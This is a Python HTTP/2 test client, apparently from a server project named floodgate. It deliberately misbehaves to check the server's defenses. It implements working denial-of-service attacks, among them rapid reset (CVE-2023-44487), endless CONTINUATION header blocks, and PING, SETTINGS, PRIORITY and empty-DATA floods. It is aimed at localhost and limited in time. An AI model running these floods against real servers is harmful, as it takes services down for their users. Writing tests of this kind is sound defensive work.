"""An HTTP/2 client that misbehaves on purpose, for floodgate's attack tests (Python `h2`).

usage: h2_client.py MODE PORT [PATH] [STREAMS] [SECONDS] [BATCH]
  stall    open STREAMS GETs of PATH with a 1-byte stream window and never open it
  trickle  open STREAMS GETs of PATH, opening each window by 16 KiB every 100 ms
  silent   send the preface and SETTINGS, then nothing
  idle     one GET of PATH read to its end, then nothing
  rapid-reset         open GETs of PATH and RST_STREAM each at once (CVE-2023-44487), in
                      writes of BATCH pairs (default 100), up to STREAMS streams (0: no bound)
                      or until the server ends it
  continuation        one HEADERS frame without END_HEADERS, then CONTINUATION frames full of
                      header fields, never ending the block (CVE-2024-27316 and kin)
  continuation-empty  the same with empty CONTINUATION frames
  ping-flood | settings-flood | priority-flood
                      PING / SETTINGS / PRIORITY frames in writes of BATCH, until the server
                      ends the connection or SECONDS pass (at most STREAMS frames; 0: no bound)
  empty-data-flood    one POST of PATH, then empty DATA frames (no END_STREAM) in writes of BATCH
With H2_TLS=1 in the environment the connection is TLS (ALPN h2, certificate not checked).
Prints one JSON line: per-stream outcome counts, GOAWAY and close times (seconds).
Bounded: gives up after SECONDS (default 20).
"""
import json
import os
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
import hpack
import struct


def main():
    mode, port = sys.argv[1], int(sys.argv[2])
    path = sys.argv[3] if len(sys.argv) > 3 else "/"
    streams = int(sys.argv[4]) if len(sys.argv) > 4 else 1
    limit = float(sys.argv[5]) if len(sys.argv) > 5 else 20.0
    batch = int(sys.argv[6]) if len(sys.argv) > 6 else 100

    if mode == "rapid-reset":
        return rapid_reset(port, path, streams, limit, batch)
    if mode.startswith("continuation"):
        return continuation(port, path, mode == "continuation-empty", limit)
    if mode.endswith("-flood"):
        return flood(port, path, mode, limit, batch, streams)

    sock = connect(port)
    sock.settimeout(0.1)
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    if mode in ("stall", "trickle"):
        # A 1-byte window per stream: the server may send almost nothing until we open it.
        conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 1})
    sock.sendall(conn.data_to_send())

    started = time.monotonic()
    result = {"reset": 0, "ended": 0, "bytes": 0, "goaway": None, "closed": None, "error_codes": []}
    open_streams = set()
    headers = [(":method", "GET"), (":scheme", "http"), (":authority", "127.0.0.1"), (":path", path)]
    if mode in ("stall", "trickle", "idle"):
        for _ in range(streams if mode != "idle" else 1):
            stream_id = conn.get_next_available_stream_id()
            conn.send_headers(stream_id, headers, end_stream=True)
            open_streams.add(stream_id)
        sock.sendall(conn.data_to_send())

    last_trickle = started
    while time.monotonic() - started < limit:
        now = time.monotonic()
        if mode == "trickle" and now - last_trickle >= 0.1:
            last_trickle = now
            for stream_id in list(open_streams):
                conn.increment_flow_control_window(16384, stream_id=stream_id)
            conn.increment_flow_control_window(16384 * len(open_streams) or 16384)
            sock.sendall(conn.data_to_send())
        try:
            data = sock.recv(65536)
        except socket.timeout:
            continue
        except ConnectionError:
            data = b""
        if not data:
            result["closed"] = round(time.monotonic() - started, 3)
            break
        try:
            events = conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            # Frames after a GOAWAY (the server's keep-alive PING) are no protocol to a closed
            # h2 connection: only the socket's close matters from here.
            events = []
        for event in events:
            if isinstance(event, h2.events.DataReceived):
                result["bytes"] += len(event.data)
                if mode == "idle":
                    conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
            elif isinstance(event, h2.events.StreamReset):
                result["reset"] += 1
                result["error_codes"].append(int(event.error_code))
                open_streams.discard(event.stream_id)
            elif isinstance(event, h2.events.StreamEnded):
                result["ended"] += 1
                open_streams.discard(event.stream_id)
                if mode == "idle":
                    result["ended_at"] = round(time.monotonic() - started, 3)
            elif isinstance(event, h2.events.ConnectionTerminated):
                result["goaway"] = round(time.monotonic() - started, 3)
        pending = conn.data_to_send()
        if pending:
            try:
                sock.sendall(pending)
            except ConnectionError:
                pass
        if mode in ("stall", "trickle") and not open_streams:
            break
    result["elapsed"] = round(time.monotonic() - started, 3)
    print(json.dumps(result))


def frame(kind, flags, stream_id, payload=b""):
    """One HTTP/2 frame (RFC 9113 4.1)."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream_id) + payload


class Frames:
    """The server's frames, parsed by hand: after frames h2 would refuse to send, h2's own
    state machine cannot follow the connection any more."""

    def __init__(self):
        self.buffer = b""
        self.goaway = None
        self.goaway_code = None
        self.last_stream = None
        self.resets = 0
        self.headers = 0
        self.closed = None

    def feed(self, data, elapsed):
        self.buffer += data
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[0:3], "big")
            if len(self.buffer) < 9 + length:
                break
            kind = self.buffer[3]
            payload = self.buffer[9 : 9 + length]
            self.buffer = self.buffer[9 + length :]
            if kind == 0x7 and self.goaway is None:  # GOAWAY
                self.goaway = elapsed
                self.last_stream = int.from_bytes(payload[0:4], "big") & 0x7FFFFFFF
                self.goaway_code = int.from_bytes(payload[4:8], "big")
            elif kind == 0x3:  # RST_STREAM
                self.resets += 1
            elif kind == 0x1:  # HEADERS
                self.headers += 1

    def read(self, sock, started):
        """Reads what is there (0.1 s at most); False once the server closed."""
        try:
            data = sock.recv(1 << 20)
        except socket.timeout:
            return True
        except (ConnectionError, OSError):
            data = b""
        elapsed = round(time.monotonic() - started, 3)
        if not data:
            self.closed = elapsed
            return False
        self.feed(data, elapsed)
        return True

    def read_ready(self, sock, started):
        """Reads what is there without waiting; False once the server closed."""
        sock.setblocking(False)
        try:
            data = sock.recv(1 << 20)
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return True
        except (ConnectionError, OSError):
            data = b""
        finally:
            sock.settimeout(0.1)
        if not data:
            self.closed = round(time.monotonic() - started, 3)
            return False
        self.feed(data, round(time.monotonic() - started, 3))
        return True

    def result(self, started, **extra):
        return {
            "goaway": self.goaway,
            "goaway_code": self.goaway_code,
            "last_stream": self.last_stream,
            "resets_received": self.resets,
            "headers_received": self.headers,
            "closed": self.closed,
            "elapsed": round(time.monotonic() - started, 3),
            **extra,
        }


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def connect(port):
    """A TCP connection, or with H2_TLS=1 a TLS one that negotiated h2."""
    sock = socket.create_connection(("127.0.0.1", port))
    if os.environ.get("H2_TLS") != "1":
        return sock
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context.wrap_socket(sock, server_hostname="localhost")


def opened(port):
    """A connection past the preface: our SETTINGS sent, the server's acknowledged."""
    sock = connect(port)
    sock.settimeout(0.1)
    sock.sendall(PREFACE + frame(0x4, 0, 0) + frame(0x4, 0x1, 0))
    return sock


def send(sock, data, deadline):
    """Writes `data` before `deadline` (monotonic): True when written; False when the server
    closed, or stopped reading until the deadline."""
    sock.settimeout(max(0.1, deadline - time.monotonic()))
    try:
        sock.sendall(data)
        return True
    except (ConnectionError, OSError):
        return False
    finally:
        sock.settimeout(0.1)


def rapid_reset(port, path, streams, limit, batch_size):
    """HEADERS (END_STREAM) then RST_STREAM (CANCEL) on each new stream, `batch_size` pairs per
    write."""
    sock = opened(port)
    started = time.monotonic()
    frames = Frames()
    encoder = hpack.Encoder()
    block = encoder.encode([(":method", "GET"), (":scheme", "http"), (":authority", "127.0.0.1"), (":path", path)])
    stream_id = 1
    sent = 0
    while time.monotonic() - started < limit and (streams == 0 or sent < streams):
        batch = b""
        for _ in range(batch_size):
            # The same header block each time: the encoder's dynamic table is not used twice.
            batch += frame(0x1, 0x1 | 0x4, stream_id, block) + frame(0x3, 0, stream_id, struct.pack(">I", 0x8))
            stream_id += 2
            sent += 1
        if not send(sock, batch, started + limit):
            if time.monotonic() < started + limit:  # not merely blocked until the end
                frames.closed = round(time.monotonic() - started, 3)
            break
        if not frames.read_ready(sock, started):
            break
        if frames.goaway is not None:
            break
    # Wait (bounded) for the close after a GOAWAY, or for whatever the server still says.
    while frames.closed is None and time.monotonic() - started < limit:
        if not frames.read(sock, started):
            break
    print(json.dumps(frames.result(started, sent=sent)))


def continuation(port, path, empty, limit):
    """A header block that never ends: HEADERS without END_HEADERS, then CONTINUATION frames."""
    sock = opened(port)
    started = time.monotonic()
    frames = Frames()
    block = hpack.Encoder().encode([(":method", "GET"), (":scheme", "http"), (":authority", "127.0.0.1"), (":path", path)])
    # Literal header fields without indexing, new name: x-a: 100 bytes; 150 of them per frame.
    field = b"\x00\x03x-a\x64" + b"a" * 100
    filler = b"" if empty else field * 150
    sent_frames = 0
    sent_bytes = 0
    ok = send(sock, frame(0x1, 0x1, 1, block), started + limit)  # END_STREAM, no END_HEADERS
    while ok and time.monotonic() - started < limit:
        batch = frame(0x9, 0, 1, filler) * (4 if not empty else 1000)
        ok = send(sock, batch, started + limit)
        if ok:
            sent_frames += 4 if not empty else 1000
            sent_bytes += len(batch)
        sock.setblocking(False)
        try:
            data = sock.recv(1 << 20)
            if data:
                frames.feed(data, round(time.monotonic() - started, 3))
            else:
                ok = False
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except (ConnectionError, OSError):
            ok = False
        finally:
            sock.settimeout(0.1)
        if not ok and time.monotonic() < started + limit:
            frames.closed = round(time.monotonic() - started, 3)
    while frames.closed is None and time.monotonic() - started < limit:
        if not frames.read(sock, started):
            break
    print(json.dumps(frames.result(started, sent_frames=sent_frames, sent_bytes=sent_bytes)))


def flood(port, path, mode, limit, batch_size, total):
    """Control frames (or empty DATA frames on one open stream) as fast as the server takes
    them, until it sends GOAWAY or closes, or `limit` seconds pass; with `total` (> 0), only
    that many, and then the server's answer is read until `limit`."""
    sock = opened(port)
    started = time.monotonic()
    frames = Frames()
    if mode == "empty-data-flood":
        block = hpack.Encoder().encode([(":method", "POST"), (":scheme", "http"), (":authority", "127.0.0.1"), (":path", path)])
        send(sock, frame(0x1, 0x4, 1, block), started + limit)  # END_HEADERS, the body to come
        one = frame(0x0, 0, 1)
    else:
        one = {
            "ping-flood": frame(0x6, 0, 0, b"12345678"),
            "settings-flood": frame(0x4, 0, 0),
            "priority-flood": frame(0x2, 0, 3, struct.pack(">IB", 0, 15)),
        }[mode]
    sent = 0
    while time.monotonic() - started < limit and frames.goaway is None and (total == 0 or sent < total):
        if not send(sock, one * batch_size, started + limit):
            if time.monotonic() < started + limit:
                frames.closed = round(time.monotonic() - started, 3)
            break
        sent += batch_size
        if not frames.read_ready(sock, started):
            break
    while frames.closed is None and time.monotonic() - started < limit:
        if not frames.read(sock, started):
            break
    print(json.dumps(frames.result(started, sent=sent)))


if __name__ == "__main__":
    main()
